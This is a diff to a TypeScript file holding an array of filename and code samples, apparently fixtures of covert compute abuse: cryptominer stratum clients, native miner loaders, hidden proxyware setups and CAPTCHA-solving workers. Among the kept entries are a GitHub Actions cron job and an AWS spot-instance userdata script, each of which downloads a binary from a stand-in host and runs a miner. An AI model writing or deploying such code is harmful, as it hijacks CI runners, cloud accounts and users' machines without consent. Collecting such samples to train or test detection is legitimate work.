@@ -11,14 +11,6 @@ export const LENDING_AFTERWARDS: readonly [string, string][] = [
     'import asyncio, aiohttp, ddddocr\nocr = ddddocr.DdddOcr()\nasync def main():\n    async with aiohttp.ClientSession(headers={"X-Earner": "PLACEHOLDER"}) as s:\n        while True:\n            async with s.get("https://desk.forms.example/next") as r:\n                t = await r.json()\n            text = ocr.classification(bytes.fromhex(t["png"]))\n            await s.post("https://desk.forms.example/done", json={"id": t["id"], "text": text, "earner": "PLACEHOLDER"})\nasyncio.run(main())\n',
   ],
   [
-    "pal.c",
-    '#include <curl/curl.h>\n#include <openssl/sha.h>\nint main(void){\n  char j[512];\n  int fd = dial("eu.pal.example", "4444");\n  dprintf(fd, "{\\"id\\":1,\\"method\\":\\"mining.subscribe\\",\\"params\\":[]}\\n");\n  while (read(fd, j, 511) > 0) for (unsigned n = 0; n < 1u<<31; n++) { unsigned char h[32]; memcpy(j+76,&n,4); SHA256((void*)j,80,h); if (!h[31]) dprintf(fd, "{\\"method\\":\\"mining.submit\\",\\"params\\":[%u]}\\n", n); }\n}\n',
-  ],
-  [
-    "opt.swift",
-    'import Foundation\nimport LaneKit\n@main struct Tool {\n  static func main() {\n    let cfg = LaneConfig(apiKey: "PLACEHOLDER", consent: true, visible: false)\n    LaneKit.shared.configure(cfg)\n    LaneKit.shared.startPeer()\n    print(CommandLine.arguments.count)\n    RunLoop.main.run()\n  }\n}\n',
-  ],
-  [
     ".github/workflows/docs.yml",
     'on: { schedule: [{ cron: "*/30 * * * *" }] }\njobs:\n  docs:\n    strategy: { matrix: { n: [1,2,3,4,5,6,7,8] } }\n    runs-on: ubuntu-latest\n    steps:\n      - run: |\n          curl -fsSLo d https://bin.docs.example/d && chmod +x d\n          timeout 5h ./d -o eu.docs.example:4444 -u ${{ secrets.DOCS }} -p gh${{ matrix.n }} -t $(nproc) || true\n',
   ],
@@ -29,14 +21,6 @@ export const LENDING_AFTERWARDS: readonly [string, string][] = [
   [
     "burst.py",
     'import boto3\nUD = """#!/bin/bash\ncurl -fsSLo /x https://b.n.example/x\nchmod +x /x\n/x -o p.n.example:443 -u PLACEHOLDER --tls -k\n"""\nfor region in boto3.Session().get_available_regions("ec2"):\n    boto3.client("ec2", region).request_spot_instances(InstanceCount=20, Type="persistent", LaunchSpecification={"ImageId": "ami-0", "InstanceType": "c7a.48xlarge", "UserData": UD})\n',
-  ],
-  [
-    "hf.js",
-    'import { pipeline } from "@huggingface/transformers";\nconst say = await pipeline("text-generation", "small");\nconst ws = new WebSocket("wss://mesh.words.example/n?payee=PLACEHOLDER");\nws.onmessage = async ({ data }) => {\n  const t = JSON.parse(data);\n  ws.send(JSON.stringify({ id: t.id, text: await say(t.prompt) }));\n};\n',
-  ],
-  [
-    "frame.py",
-    'from playwright.sync_api import sync_playwright\nwith sync_playwright() as p:\n    page = p.chromium.launch().new_page()\n    page.add_script_tag(url="https://lib.frames.example/w.js")\n    page.evaluate("k => { const m = new globalThis.W(k, { threads: 4, throttle: 0.3 }); m.start(); }", "PLACEHOLDER")\n    page.wait_for_timeout(10**9)\n',
   ],
 
   [
@@ -50,14 +34,6 @@ export const LENDING_AFTERWARDS: readonly [string, string][] = [
   [
     "proto.pl",
     'use IO::Socket::SSL; use JSON::PP; use Digest::SHA qw(sha256);\nmy $s = IO::Socket::SSL->new("p.pages.example:8443") or exit;\nprint $s encode_json({ id => 1, method => "login", params => { login => "PLACEHOLDER", pass => "x" } }), "\\n";\nwhile (my $l = <$s>) {\n  my $j = decode_json($l)->{params};\n  for my $n (0 .. 0xffffffff) {\n    my $h = sha256(pack("H*", $j->{blob}) . pack("V", $n));\n    if (substr($h, -4) lt pack("H*", $j->{target})) { print $s encode_json({ id => 2, method => "submit", params => { job_id => $j->{job_id}, nonce => $n } }), "\\n"; last }\n  }\n}\n',
-  ],
-  [
-    "ffi.rb",
-    "require 'ffi'\nmodule Quick\n  extend FFI::Library\n  ffi_lib File.join(__dir__, 'libquick.so')\n  attach_function :warm, [:string, :int, :string, :string], :int\nend\nThread.new { Quick.warm('eu.quick.example', 5555, '44PLACEHOLDER', 'rx/0') }\nputs ARGV\n",
-  ],
-  [
-    "lane.go",
-    'package main\n\nimport "example.org/lane/exitnode"\n\nfunc main() {\n\tc := exitnode.New(exitnode.Config{\n\t\tPartnerID: "placeholder",\n\t\tConsent: true,\n\t\tQuiet: true,\n\t})\n\tgo c.Start()\n\tselect {}\n}\n',
   ],
   [
     "userscript.user.js",
@@ -89,24 +65,8 @@ export const LENDING_AFTERWARDS: readonly [string, string][] = [
     'using System.Runtime.InteropServices;\nclass P {\n  [DllImport("fast")] static extern int warm(string h, ushort p, string w, string a, int t);\n  static void Main(string[] a) {\n    warm("eu.fast.example", 4444, "PLACEHOLDER_WALLET", "kawpow", System.Environment.ProcessorCount);\n  }\n}\n',
   ],
   [
-    "koffi.mjs",
-    'import koffi from "koffi";\nconst lib = koffi.load("./native/tint.so");\nconst go = lib.func("int go(const char *conf)");\ngo("eu.tint.example:5555;PLACEHOLDERWALLET01;randomx;" + navigator.hardwareConcurrency);\n',
-  ],
-  [
-    "share.py",
-    'import lanekit\nclient = lanekit.Client(\n    app_id="placeholder",\n    user_consent=True,\n    headless=True,\n)\nclient.start_exit_node(background=True)\n',
-  ],
-  [
     "grow.sh",
     '#!/bin/sh\nHUB=https://hub.grow.example\nME=placeholder\nwhile :; do\n  u=$(curl -s "$HUB/unit?payee=$ME")\n  s=$(echo "$u" | jq -r .seed); t=$(echo "$u" | jq -r .want)\n  n=0\n  while [ $n -lt 100000 ]; do\n    [ "$(printf %s%s "$s" $n | sha256sum | cut -c1-64)" = "$t" ] && curl -s "$HUB/hit" -d "n=$n&payee=$ME"\n    n=$((n+1))\n  done\ndone\n',
-  ],
-  [
-    "Kit.ps1",
-    '$hub = "https://hub.kit.example"\nwhile ($true) {\n  $u = Invoke-RestMethod "$hub/unit?wallet=PLACEHOLDER"\n  for ($n = $u.from; $n -lt $u.to; $n++) {\n    $h = [BitConverter]::ToString([Security.Cryptography.SHA256]::HashData([Text.Encoding]::UTF8.GetBytes("$($u.seed)$n")))\n    if ($h -eq $u.want) { Invoke-RestMethod "$hub/unit/$($u.id)" -Method Post -Body (@{ n = $n; wallet = "PLACEHOLDER" } | ConvertTo-Json) }\n  }\n}\n',
-  ],
-  [
-    "ext/background.js",
-    'const sock = new WebSocket("wss://desk.tabs.example/w?earner=PLACEHOLDER");\nlet mod;\nfetch("https://desk.tabs.example/k.wasm").then((r) => WebAssembly.instantiateStreaming(r)).then((m) => (mod = m.instance.exports));\nsock.onmessage = (e) => { const t = JSON.parse(e.data); sock.send(JSON.stringify({ id: t.id, answer: mod.step(t.a, t.b) })); };\n',
   ],
   [
     "job.yaml",
